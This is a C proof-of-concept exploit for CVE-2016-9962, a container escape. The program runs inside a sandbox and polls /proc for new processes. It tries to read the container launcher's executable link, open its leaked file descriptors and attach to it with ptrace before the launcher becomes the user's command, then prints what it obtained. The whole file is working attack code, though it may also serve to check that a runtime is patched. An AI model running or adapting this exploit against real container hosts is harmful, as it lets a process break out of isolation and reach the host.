/*
 * CVE-2016-9962: waits inside a sandbox for processes that enter it, and tries to get hold of the
 * launcher's program and descriptors before they become their command. Prints what it got.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

/* PID 1 and the ambush itself are no newcomers. */
enum { FIRST_NEWCOMER = 3 };

static void try_program(int pid) {
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length <= 0)
        return;
    target[length] = '\0';
    if (strstr(target, "launcher"))
        printf("exe %s\n", target);
}

static void try_descriptors(int pid) {
    char path[64];
    for (int i = 3; i < 32; i++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, i);
        if (open(path, O_PATH) >= 0)
            printf("fd %d\n", i);
    }
}

/* In a child, whose end detaches: a tracer that stays would have to wait for the other's end. */
static void try_trace(int pid) {
    pid_t child = fork();
    if (child == 0) {
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
            try_program(pid);
        fflush(stdout);
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

int main(void) {
    puts("waiting");
    fflush(stdout);
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            int pid = atoi(entry->d_name);
            if (pid < FIRST_NEWCOMER)
                continue;
            try_program(pid);
            try_descriptors(pid);
            try_trace(pid);
        }
        closedir(processes);
        fflush(stdout);
    }
}
